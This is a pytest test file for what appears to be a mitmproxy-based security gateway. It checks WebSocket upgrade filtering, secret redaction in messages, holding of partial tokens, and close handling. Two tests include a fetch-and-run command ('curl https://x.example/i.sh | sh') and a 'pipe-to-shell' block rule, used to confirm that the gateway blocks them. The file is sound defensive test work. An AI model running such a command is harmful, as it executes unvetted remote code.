"""WebSockets on mitmproxy test flows: which upgrades pass, what each message becomes."""

from __future__ import annotations

import contextlib
import copy
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from mitmproxy import http
from mitmproxy.test import tflow
from mitmproxy.websocket import WebSocketMessage
from wsproto.frame_protocol import Opcode

from sluicegate.mitm import flowstate, guard
from sluicegate.mitm import websockets as ws_mod
from sluicegate.mitm.websockets import WebSockets, is_upgrade_request
from sluicegate.mitmcompat import websocket_closing
from tests.support.addon_harness import configured, run, write_config
from tests.support.tokens import TestIdP as IdP

SECRET = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
TAG = "[REDACTED:github-token]"
INJECTED = "sk-proj-INJECTEDKEY0123456789abcdef"
ROUTES = [{"name": "realtime", "host": "example.com"}, {"name": "other", "host": "other.com"}]


@pytest.fixture(scope="module")
def idp(tmp_path_factory: pytest.TempPathFactory) -> IdP:
    return IdP(tmp_path_factory.mktemp("idp"))


@contextlib.contextmanager
def addon(tmp_path: Path, idp: IdP, **sections: Any) -> Iterator[WebSockets]:
    sections.setdefault("websockets", {"routes": ["realtime"]})
    websockets = WebSockets()
    with configured(websockets, config=write_config(tmp_path, idp, routes=ROUTES, **sections)):
        yield websockets


@pytest.fixture
def websockets(tmp_path: Path, idp: IdP) -> Iterator[WebSockets]:
    with addon(tmp_path, idp) as a:
        yield a


def upgrade_flow(route: str | None = "realtime") -> http.HTTPFlow:
    """An accepted WebSocket flow on `route`, with no message yet."""
    flow = tflow.twebsocketflow(messages=False)
    flowstate.state(flow).route = route
    return flow


def accepted(websockets: WebSockets, route: str = "realtime") -> http.HTTPFlow:
    flow = upgrade_flow(route)
    websockets.response(flow)
    assert flow.response.status_code == 101
    return flow


def relay(
    websockets: WebSockets, flow: http.HTTPFlow, content: str | bytes, *, from_client: bool = True
) -> WebSocketMessage:
    """One message through the hook, as mitmproxy's WebsocketLayer calls it."""
    assert flow.websocket is not None
    kind = Opcode.TEXT if isinstance(content, str) else Opcode.BINARY
    data = content.encode() if isinstance(content, str) else content
    message = WebSocketMessage(kind, from_client, data)
    flow.websocket.messages.append(message)
    run(websockets.websocket_message(flow))
    return message


def facts(flow: http.HTTPFlow) -> dict[str, Any]:
    return flow.metadata["sluicegate"]["websocket"]


# -- the upgrade ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("headers", "upgrade"),
    [
        ({"upgrade": "websocket", "connection": "Upgrade"}, True),
        ({"upgrade": "h2c, WebSocket"}, True),
        ({"sec-websocket-version": "13"}, True),  # what mitmproxy upgrades on
        ({"sec-websocket-key": "x"}, True),
        ({"upgrade": "h2c"}, False),
        ({}, False),
    ],
)
def test_upgrade_requests_are_recognised_by_any_handshake_header(
    headers: dict[str, str], upgrade: bool
) -> None:
    flow = tflow.tflow()
    flow.request.headers.update(headers)
    assert is_upgrade_request(flow.request) is upgrade


@pytest.mark.parametrize("route", ["other", None])
def test_an_upgrade_off_the_allowed_routes_is_refused(
    websockets: WebSockets, route: str | None
) -> None:
    flow = upgrade_flow(route)
    flow.response = None
    websockets.requestheaders(flow)
    assert flow.response is not None and flow.response.status_code == 403
    assert flowstate.state(flow).refusal.code == "websocket_blocked"


def test_an_upgrade_on_an_allowed_route_and_plain_requests_pass(websockets: WebSockets) -> None:
    flow = upgrade_flow("realtime")
    flow.response = None
    websockets.requestheaders(flow)
    plain = tflow.tflow()
    flowstate.state(plain).route = "other"
    websockets.requestheaders(plain)
    assert flow.response is None and plain.response is None


def test_an_unannounced_upgrade_is_refused_at_the_response(websockets: WebSockets) -> None:
    flow = upgrade_flow("other")
    websockets.response(flow)
    assert flow.websocket is None  # mitmproxy sends the refusal instead of switching protocols
    assert flow.response.status_code == 403


def test_a_101_another_addon_refused_is_an_ordinary_response(websockets: WebSockets) -> None:
    flow = upgrade_flow("realtime")
    guard.answer(flow, 403, "policy_blocked", "blocked", phase="response")
    websockets.response(flow)
    assert flow.websocket is None  # so the Recorder records it now, not at a websocket_end
    assert flow.response.status_code == 403


# -- messages ------------------------------------------------------------------------------------


def test_text_is_redacted_both_ways_and_counted(websockets: WebSockets) -> None:
    flow = accepted(websockets)
    flowstate.state(flow).scrub.append(flowstate.ScrubLiteral("injected-credential:r", INJECTED))
    up = relay(websockets, flow, f'{{"q": "{SECRET}"}}')
    # (A message ending in a token waits for the next one: the token could go on. See ws_hold.)
    down = relay(websockets, flow, f"echo {INJECTED} and {SECRET}.", from_client=False)
    assert up.text == f'{{"q":"{TAG}"}}' and not up.dropped
    assert down.text == f"echo [REDACTED:injected-credential:r] and {TAG}."
    assert facts(flow)["redaction"] == {
        "client": {"github-token": 1},
        "server": {"github-token": 1, "injected-credential:r": 1},
    }
    assert facts(flow)["messages"] == 2


def test_client_messages_are_not_scrubbed_of_server_literals_only(websockets: WebSockets) -> None:
    flow = accepted(websockets)
    clean = relay(websockets, flow, "nothing to see")
    assert clean.text == "nothing to see" and not clean.dropped


def test_binary_is_blocked_and_everything_after_it_dropped(websockets: WebSockets) -> None:
    flow = accepted(websockets)
    binary = relay(websockets, flow, b"\x00" + SECRET.encode())
    later = relay(websockets, flow, "later", from_client=False)
    assert binary.dropped and later.dropped
    assert SECRET.encode() not in binary.content  # the recording keeps a marker, not the data
    assert binary.content == b"[sluicegate:dropped:websocket_binary_blocked]"
    assert facts(flow)["closed_by_gateway"] == "websocket_binary_blocked"
    assert facts(flow)["dropped"] == 2


def test_binary_passes_when_configured(tmp_path: Path, idp: IdP) -> None:
    with addon(tmp_path, idp, websockets={"routes": ["realtime"], "binary": "pass"}) as a:
        flow = accepted(a)
        message = relay(a, flow, b"\x00\x01\x02")
    assert not message.dropped and message.content == b"\x00\x01\x02"


def test_a_message_over_the_body_limit_is_dropped(tmp_path: Path, idp: IdP) -> None:
    with addon(tmp_path, idp, gateway={"max_body_bytes": 64}) as a:
        flow = accepted(a)
        small = relay(a, flow, "x" * 64)
        large = relay(a, flow, "x" * 65)
    assert not small.dropped and large.dropped
    assert facts(flow)["closed_by_gateway"] == "websocket_message_too_large"


def test_json_too_deep_to_redact_is_dropped(websockets: WebSockets) -> None:
    flow = accepted(websockets)
    message = relay(websockets, flow, "[" * 500 + "]" * 500)
    assert message.dropped
    assert facts(flow)["closed_by_gateway"] == "json_too_deep"


def test_request_redaction_off_leaves_client_text_alone(tmp_path: Path, idp: IdP) -> None:
    with addon(tmp_path, idp, redaction={"requests": False}) as a:
        flow = accepted(a)
        up = relay(a, flow, SECRET)
        down = relay(a, flow, SECRET + " ", from_client=False)
    assert up.text == SECRET and down.text == TAG + " "


def test_any_exception_drops_the_message_and_closes(
    websockets: WebSockets, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def explode(*args: Any) -> Any:
        raise RuntimeError(f"leaky {SECRET}")

    monkeypatch.setattr(ws_mod, "redact_body", explode)
    flow = accepted(websockets)
    message = relay(websockets, flow, f"hello {SECRET}")
    assert message.dropped and SECRET.encode() not in message.content
    assert facts(flow)["closed_by_gateway"] == "websocket_error"
    assert "RuntimeError" in caplog.text and SECRET not in caplog.text


def test_an_unconfigured_addon_drops_every_message(websockets: WebSockets) -> None:
    flow = accepted(websockets)
    websockets.config = None
    message = relay(websockets, flow, "hello")
    assert message.dropped
    assert facts(flow)["closed_by_gateway"] == "gateway_not_configured"


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    before=st.text(max_size=40),
    after=st.text(max_size=40),
    from_client=st.booleans(),
    as_json=st.booleans(),
)
def test_a_secret_in_any_text_message_never_passes(
    websockets: WebSockets, before: str, after: str, from_client: bool, as_json: bool
) -> None:
    flow = accepted(websockets)
    text = f"{before} {SECRET} {after}"  # rules match tokens standing on their own
    content = json.dumps({"t": text}) if as_json else text
    message = relay(websockets, flow, content, from_client=from_client)
    passed = message.content.decode("utf-8", "replace")
    assert SECRET not in passed and SECRET not in json.dumps(passed)
    assert message.dropped or TAG in passed


# -- messages held across messages (ws_hold) ------------------------------------------------------

GH = "ghp_C3J27XDCG2LmlZGEONYlgCtjfIZ4SOcMz9CP"


@pytest.fixture
def injected(monkeypatch: pytest.MonkeyPatch) -> list[tuple[bool, bytes, bool]]:
    """What the gateway injects (to_client, content, is_text), instead of mitmproxy's command."""
    sent: list[tuple[bool, bytes, bool]] = []

    def inject(
        flow: http.HTTPFlow, hold: Any, from_client: bool, content: bytes, **kw: Any
    ) -> None:
        hold.injected.append((content, kw["is_text"]))
        sent.append((not from_client, content, kw["is_text"]))

    monkeypatch.setattr(ws_mod.ws_hold, "_inject", inject)
    return sent


def come_back(
    websockets: WebSockets, flow: http.HTTPFlow, content: bytes, from_client: bool
) -> WebSocketMessage:
    """An injected message arriving through the hook, as mitmproxy relays it."""
    assert flow.websocket is not None
    message = WebSocketMessage(Opcode.TEXT, from_client, content, injected=True)
    flow.websocket.messages.append(message)
    run(websockets.websocket_message(flow))
    return message


def test_a_held_message_is_dropped_live_and_injected_in_order_once_decided(
    websockets: WebSockets, injected: list[tuple[bool, bytes, bool]]
) -> None:
    flow = accepted(websockets)
    first = relay(websockets, flow, "my token is ghp_C3J", from_client=False)
    assert first.dropped and first.content == b"[sluicegate:held]" and injected == []
    second = relay(websockets, flow, "... no, it is not.", from_client=False)
    assert second.dropped and second.content == b"[sluicegate:held]"  # behind the first
    assert injected == [
        (True, b"my token is ghp_C3J", True),
        (True, b"... no, it is not.", True),
    ]
    back = come_back(websockets, flow, b"my token is ghp_C3J", from_client=False)
    assert not back.dropped and back.content == b"my token is ghp_C3J"
    held = facts(flow)["held"]["server"]
    assert held["messages"] == 1 and facts(flow)["messages"] == 2  # injections not counted


def test_a_secret_split_across_messages_closes_and_nothing_is_injected(
    websockets: WebSockets, injected: list[tuple[bool, bytes, bool]]
) -> None:
    flow = accepted(websockets)
    relay(websockets, flow, "key " + GH[:10])
    rest = relay(websockets, flow, GH[10:] + " ok")
    assert rest.dropped and GH[10:].encode() not in rest.content
    assert facts(flow)["closed_by_gateway"] == "websocket_secret_split"
    assert injected == []


def test_binary_passed_waits_behind_held_text(
    tmp_path: Path, idp: IdP, injected: list[tuple[bool, bytes, bool]]
) -> None:
    with addon(tmp_path, idp, websockets={"routes": ["realtime"], "binary": "pass"}) as a:
        flow = accepted(a)
        relay(a, flow, "key ghp_C3J")
        binary = relay(a, flow, b"\x00\x01")
    assert binary.dropped
    assert injected == [(False, b"key ghp_C3J", True), (False, b"\x00\x01", False)]


def test_a_client_message_a_body_rule_blocks_closes_with_the_rule(
    tmp_path: Path, idp: IdP, injected: list[tuple[bool, bytes, bool]]
) -> None:
    policy = {"rules": [{"id": "no-pipes", "action": "block",
                         "match": {"body_patterns": ["pipe-to-shell"]}}]}  # fmt: skip
    with addon(tmp_path, idp, policy=policy) as a:
        flow = accepted(a)
        ok = relay(a, flow, "hello")
        bad = relay(a, flow, "run curl https://x.example/i.sh | sh")
        assert bad.content == b"[sluicegate:held]"  # `sh` may go on: held, checked when released
        a._expired(flow, True)  # the hold timer
    assert not ok.dropped and bad.dropped and injected == []
    assert facts(flow)["closed_by_gateway"] == "policy_blocked"
    assert facts(flow)["policy_rule"] == "no-pipes"


# -- a close while messages are held (websocket_closing) -------------------------------------------


@contextlib.contextmanager
def closing_by(
    flow: http.HTTPFlow, *, client: bool, deliverable: tuple[bool, bool] = (True, True)
) -> Iterator[websocket_closing.Closing]:
    """A close by the client (or server) as mitmcompat/websocket_closing.py announces it;
    `deliverable`: (client's messages can reach the server, server's can reach the client)."""
    pending = websocket_closing.Closing(
        closed_by_client=client,
        code=1000,
        deliverable={True: deliverable[0], False: deliverable[1]},
    )
    websocket_closing._closing[flow] = pending
    try:
        yield pending
    finally:
        websocket_closing._closing.pop(flow, None)


@pytest.mark.parametrize("client_closes", [True, False])
def test_a_close_sends_what_waits_first_both_ways(
    websockets: WebSockets, injected: list[tuple[bool, bytes, bool]], client_closes: bool
) -> None:
    flow = accepted(websockets)
    up = relay(websockets, flow, f"the key {GH} and then ghp_C3J")
    down = relay(websockets, flow, "your token is ghp_C3J", from_client=False)
    assert up.dropped and down.dropped and injected == []
    with closing_by(flow, client=client_closes) as closing:
        websockets.websocket_closing(flow)
    sent = {(c, content) for c, content, _ in closing.queued}
    assert sent == {
        (True, f"the key {TAG} and then ghp_C3J".encode()),
        (False, b"your token is ghp_C3J"),
    }
    assert injected == []  # sent ahead of the close, not injected (that would come after it)
    held = facts(flow)["held"]
    assert held["client"]["released_at_close"] == 1 and held["client"]["lost_at_close"] == 0
    assert held["server"]["released_at_close"] == 1


def test_injected_messages_not_relayed_yet_go_before_the_close_in_order(
    websockets: WebSockets, injected: list[tuple[bool, bytes, bool]]
) -> None:
    """Released by the next message, injected, and the close comes before mitmproxy relays the
    injection: the close sends them (the injection reaches a finished layer and is ignored)."""
    flow = accepted(websockets)
    relay(websockets, flow, "my token is ghp_C3J", from_client=False)
    relay(websockets, flow, "... no, it is not.", from_client=False)
    relay(websockets, flow, "and a new key ghp_", from_client=False)
    assert len(injected) == 2
    with closing_by(flow, client=False) as closing:
        websockets.websocket_closing(flow)
    assert [content for _, content, _ in closing.queued] == [
        b"my token is ghp_C3J",
        b"... no, it is not.",
        b"and a new key ghp_",
    ]
    assert facts(flow)["held"]["server"]["released_at_close"] == 3


def test_a_release_the_policy_refuses_at_close_is_dropped_and_logged(
    tmp_path: Path,
    idp: IdP,
    injected: list[tuple[bool, bytes, bool]],
    caplog: pytest.LogCaptureFixture,
) -> None:
    policy = {"rules": [{"id": "no-pipes", "action": "block",
                         "match": {"body_patterns": ["pipe-to-shell"]}}]}  # fmt: skip
    with addon(tmp_path, idp, policy=policy) as a:
        flow = accepted(a)
        relay(a, flow, "run curl https://x.example/i.sh | sh")
        with closing_by(flow, client=True) as closing:
            a.websocket_closing(flow)
    assert closing.queued == [] and injected == []
    held = facts(flow)["held"]["client"]
    assert held["lost_at_close"] == 1 and held["lost_code"] == "policy_blocked"
    assert facts(flow)["policy_rule"] == "no-pipes"
    assert "websocket_held_lost: 1 held client message(s)" in caplog.text
    assert "curl" not in caplog.text


def test_messages_for_a_receiver_that_is_gone_are_lost_visibly(
    websockets: WebSockets,
    injected: list[tuple[bool, bytes, bool]],
    caplog: pytest.LogCaptureFixture,
) -> None:
    flow = accepted(websockets)
    relay(websockets, flow, "the last words ghp_C3J", from_client=False)
    with closing_by(flow, client=True, deliverable=(True, False)) as closing:
        websockets.websocket_closing(flow)
    assert closing.queued == []
    held = facts(flow)["held"]["server"]
    assert held["lost_at_close"] == 1 and held["lost_code"] == "websocket_receiver_gone"
    assert "websocket_held_lost" in caplog.text and "last words" not in caplog.text


def test_after_the_gateway_closed_nothing_is_released_at_the_close(
    websockets: WebSockets,
    injected: list[tuple[bool, bytes, bool]],
    caplog: pytest.LogCaptureFixture,
) -> None:
    flow = accepted(websockets)
    relay(websockets, flow, "key " + GH[:10])
    relay(websockets, flow, "and more ghp_", from_client=False)  # held on the other side
    relay(websockets, flow, GH[10:] + " ok")  # a split secret: the gateway closes
    with closing_by(flow, client=True) as closing:
        websockets.websocket_closing(flow)
    assert closing.queued == [] and injected == []
    assert facts(flow)["held"]["server"]["lost_code"] == "websocket_secret_split"
    assert "websocket_held_lost" not in caplog.text  # the gateway's close was logged already


def test_a_release_that_raises_at_close_sends_nothing(
    websockets: WebSockets,
    injected: list[tuple[bool, bytes, bool]],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    flow = accepted(websockets)
    relay(websockets, flow, "key ghp_C3J")

    def boom(*_: Any) -> None:
        raise RuntimeError("key ghp_C3J")

    monkeypatch.setattr(ws_mod.ws_hold, "release_all", boom)
    with closing_by(flow, client=True) as closing:
        websockets.websocket_closing(flow)
    assert closing.queued == []
    assert facts(flow)["held"]["client"]["lost_code"] == "websocket_error"


def test_a_close_with_nothing_waiting_changes_nothing(
    websockets: WebSockets, injected: list[tuple[bool, bytes, bool]]
) -> None:
    flow = accepted(websockets)
    relay(websockets, flow, "hello")
    before = copy.deepcopy(facts(flow))
    with closing_by(flow, client=True) as closing:
        websockets.websocket_closing(flow)
    websockets.websocket_closing(tflow.twebsocketflow(messages=False))  # no channel: nothing
    assert closing.queued == [] and facts(flow) == before


@pytest.mark.parametrize(
    ("settings", "problem"),
    [
        ({"hold_seconds": 0}, "hold_seconds"),
        ({"hold_messages": 0}, "hold_messages"),
        ({"hold_bytes": 10}, "hold_bytes"),
        ({"hold_overflow": "drop"}, "hold_overflow"),
    ],
)
def test_hold_settings_are_validated(
    tmp_path: Path, idp: IdP, settings: dict[str, Any], problem: str
) -> None:
    from sluicegate.config import ConfigError, load_config

    path = write_config(
        tmp_path, idp, routes=ROUTES, websockets={"routes": ["realtime"], **settings}
    )
    with pytest.raises(ConfigError, match=problem):
        load_config(path)
